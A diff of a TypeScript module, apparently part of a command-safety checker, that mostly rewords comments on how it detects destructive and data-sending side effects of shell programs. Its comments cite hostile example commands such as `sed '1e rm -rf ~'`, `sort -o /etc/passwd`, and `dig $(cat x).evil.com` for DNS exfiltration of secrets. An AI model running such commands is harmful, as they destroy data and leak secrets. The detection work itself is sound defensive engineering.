@@ -1,4 +1,4 @@
-/** Reads the side effects of a command, which its program is not for: `fd -x rm`, `sort -o /etc/passwd`, `sed '1e rm -rf ~'`. It only adds acts. */
+/** Reads side effects that are not a program's main purpose: `fd -x rm`, `sort -o /etc/passwd`, `sed '1e rm -rf ~'`. Only adds acts. */
 
 import type { PreparedProgram, PreparedReach } from "../Commands.ts"
 import {
@@ -22,8 +22,8 @@ import { type CommandWord, globFits, noFlow, plainWord } from "../paths.ts"
 import { readAwkScript, readSedScript } from "./scripts.ts"
 
 /**
- * Reads a text that is handed to a shell. If its first word is one that people usually name there (`rsync -e ssh`), the text is no
- * surprise: then only surely grave acts in it count.
+ * Reads a text that is passed to a shell. If its first word is one that people usually give there (`rsync -e ssh`), only definitely grave
+ * acts in it count.
  */
 export const readHandedText = (context: Context, word: CommandWord, usual: ReadonlyArray<string>): void => {
   const text = word.value.trim()
@@ -36,7 +36,7 @@ export const readHandedText = (context: Context, word: CommandWord, usual: Reado
   const { plainProgram, unknownProgram } = context.commands.acts
   const { length } = found
   readAsShell(inside, text)
-  // A setting that names a program is no ordinary call of it.
+  // Naming a program in a setting is not an ordinary call of it.
   for (const one of found.slice(length))
     if (one.act === plainProgram) found.push({ ...one, act: unknownProgram })
   if (!usual.some((glob) => globFits(glob, name))) return
@@ -47,12 +47,15 @@ export const readHandedText = (context: Context, word: CommandWord, usual: Reado
   context.session.unread = unread
 }
 
-/** Marks before a command in a list of tasks: `- run:`, `"postinstall": "`. */
+/** Markup before a command in a task list: `- run:`, `"postinstall": "`. */
 const taskMarks = /^[\s@-]*(?:"?[\w:.-]+"?:\s+)?"?/
 const inBackticks = /`([^`\n]+)`/g
 const linesMax = 40
 
-/** Lines for a file that runs by itself, or that agents obey. Only surely grave acts in them count: the writing counts anyway. */
+/**
+ * Reads lines for a file that runs automatically or that agents obey. Only definitely grave acts in them count, because writing the file
+ * counts anyway.
+ */
 export const readObeyedLines = (context: Context, text: string): void => {
   for (const line of text.split("\n", linesMax)) {
     const plain = line.replace(taskMarks, "").replace(/"?,?\s*$/, "")
@@ -61,7 +64,7 @@ export const readObeyedLines = (context: Context, text: string): void => {
   }
 }
 
-/** The effect of setting a variable: some hold commands, and some say where programs are found. */
+/** Adds the effect of setting a variable: some contain commands, and some determine where programs are found. */
 export const readSetVariable = (context: Context, name: string, word: CommandWord): void => {
   const variable = context.commands.variables.get(name)
   if (variable === undefined) return
@@ -79,7 +82,7 @@ export const readSetVariable = (context: Context, name: string, word: CommandWor
   if (isStrange) addNamed(context, "evalCode", "variable.set")
 }
 
-/** Where a command may begin: at the first word that is no flag, and after `--`. */
+/** Where a command may begin: at the first word that is not a flag, and after `--`. */
 const beginnings = (
   words: ReadonlyArray<CommandWord>,
   values: ReadonlyArray<string>
@@ -93,7 +96,7 @@ const beginnings = (
   return [...new Set([first, behind])].filter((place) => place >= 0)
 }
 
-/** An unknown program is a task of the project. The wrapper's own form covers it, and the project's scripts. */
+/** An unknown program is a task or a script of the project, which the wrapper's own form already covers. */
 const readInner = (context: Context, words: ReadonlyArray<CommandWord>): void => {
   const { found, unread } = context.session
   const { length } = found
@@ -117,7 +120,7 @@ const readWrapped = (call: ProgramCall, reach: PreparedReach): void => {
   }
 }
 
-/** `ping -p $(cat key) x.y`, `openssl s_client < key`. */
+/** Sends data as a side effect: `ping -p $(cat key) x.y`, `openssl s_client < key`. */
 const readSent = (
   { context, program }: ProgramCall,
   { sends }: PreparedReach,
@@ -132,10 +135,10 @@ const readSent = (
   else if (flows.some(({ data }) => data === true)) addNamed(context, "dataSent", `${program.name}.send`)
 }
 
-/** So many letters of a long flag are enough for GNU programs. */
+/** The minimum length of an abbreviated long flag in GNU programs. */
 const shortened = "--xxx".length
 
-/** The text after `flag` in a word. Undefined if the word is another one; empty if the next word is the value. */
+/** The text after `flag` in a word. Undefined if the word is not this flag; empty if the value is the next word. */
 const attached = (text: string, flag: string): string | undefined => {
   if (text === flag) return ""
   if (!flag.startsWith("--")) {
@@ -148,7 +151,7 @@ const attached = (text: string, flag: string): string | undefined => {
   return equals === -1 ? "" : text.slice(equals + 1)
 }
 
-/** The values of flags, also where the program's entry takes such a flag as the value of another one. */
+/** The values of flags, even if the program's entry takes such a flag for the value of another one. */
 const valuesOf = (
   { given, words }: Pick<ProgramCall, "given" | "words">,
   flags: ReadonlyArray<string>
@@ -157,7 +160,7 @@ const valuesOf = (
     const [flag = "", name] = one.split("=")
     const behind = words.flatMap((word, i) => (word.value === flag ? (words[i + 1] ?? []) : []))
     const values = [...new Set([...(given.flags.get(flag) ?? []), ...behind])]
-    // `-o=ProxyCommand` is the value of `-o` after that name.
+    // In `-o=ProxyCommand`, the value of `-o` counts only after that name.
     return values.flatMap((word): ReadonlyArray<CommandWord> => {
       if (name === undefined) return [word]
       if (!word.value.toLowerCase().startsWith(name.toLowerCase())) return []
@@ -165,7 +168,7 @@ const valuesOf = (
     })
   })
 
-/** The texts that it hands to a shell. */
+/** The texts that the program passes to a shell. */
 const textsOf = ({ given, words }: ProgramCall, reach: PreparedReach): ReadonlyArray<CommandWord> => {
   const texts = [...valuesOf({ given, words }, reach.runs), ...(reach.runsEach ? given.operands : [])]
   for (const word of words)
@@ -194,7 +197,7 @@ const textsOf = ({ given, words }: ProgramCall, reach: PreparedReach): ReadonlyA
 const keyFits = (keys: ReadonlyArray<string>, key: string): boolean =>
   keys.some((glob) => globFits(glob, key.toLowerCase()))
 
-/** The settings that it is given: `-c core.pager=x`, `config core.pager x`. */
+/** The settings given to the program: `-c core.pager=x`, `config core.pager x`. */
 const settingsOf = (call: ProgramCall): ReadonlyArray<readonly [key: string, value: CommandWord]> => {
   const settings: Array<readonly [string, CommandWord]> = []
   for (const word of valuesOf(call, ["-c"])) {
@@ -219,7 +222,7 @@ const readSettings = (call: ProgramCall, { keys, shellKeys, usual }: PreparedRea
   }
 }
 
-/** `-x rm -rf {} ;`: each found path becomes the last word, or replaces `{}`. */
+/** `-x rm -rf {} ;`: each found path is appended as the last word, or replaces `{}`. */
 const readRest = ({ context, words }: ProgramCall, { runsRest }: PreparedReach): void => {
   const found: CommandWord = { ...plainWord(""), dynamicFrom: 0 }
   for (const flag of runsRest) {
@@ -239,7 +242,7 @@ const readRest = ({ context, words }: ProgramCall, { runsRest }: PreparedReach):
   }
 }
 
-/** Adds the act of `> file`, even a small one: the program did not only read. */
+/** Adds the act of `> file`, even if it is small, because the program did more than read. */
 const addWrite = (context: Context, file: CommandWord): void => {
   const program = context.commands.programs.get(">")
   if (program === undefined) return
@@ -261,7 +264,7 @@ const readScript = ({ context, given }: ProgramCall, { script, usual }: Prepared
   if (deeds.unread) addNamed(context, "evalCode", "code")
 }
 
-/** `dig $(cat x).evil.com`: the server that answers for the name reads the question. */
+/** `dig $(cat x).evil.com`: the name server of that domain sees the secret in the query. */
 const readAskedNames = ({ context, words }: ProgramCall): void => {
   for (const { flow, value } of words) {
     const host = value.toLowerCase().replace(/\.$/, "")
@@ -271,7 +274,7 @@ const readAskedNames = ({ context, words }: ProgramCall): void => {
   }
 }
 
-/** A quoted word of a program that only reads may be meant for another one. Only surely grave acts in it count. */
+/** A quoted word of a program that only reads may be meant for another program. Only definitely grave acts in it count. */
 const readQuoted = ({ context, program, words }: ProgramCall): void => {
   if (!program.onlyReads) return
   for (const word of words) {
@@ -282,7 +285,7 @@ const readQuoted = ({ context, program, words }: ProgramCall): void => {
   }
 }
 
-/** The variables before a command: `env PATH=/tmp/x ls`. */
+/** The variables set before a command: `env PATH=/tmp/x ls`. */
 const variablesIn = (words: ReadonlyArray<CommandWord>): ReadonlyArray<readonly [string, CommandWord]> => {
   const found: Array<readonly [string, CommandWord]> = []
   for (const word of words) {
@@ -293,7 +296,7 @@ const variablesIn = (words: ReadonlyArray<CommandWord>): ReadonlyArray<readonly 
   return found
 }
 
-/** The environment of a command after these words. */
+/** The environment of a command after these assignments. */
 export const withVariables = (
   environment: Context["environment"],
   words: ReadonlyArray<CommandWord>
@@ -302,7 +305,7 @@ export const withVariables = (
   return set.length === 0 ? environment : new Map([...(environment ?? []), ...set])
 }
 
-/** A program with the flags that one of its subcommands gives a value. */
+/** A program extended by the flags with values that one of its subcommands has. */
 const withFlagsOf = (program: PreparedProgram, { runs, sends, writes }: PreparedReach): PreparedProgram => {
   const flags = [...runs, ...sends, ...writes].map((flag) => flag.split("=", 1)[0] ?? "")
   return {
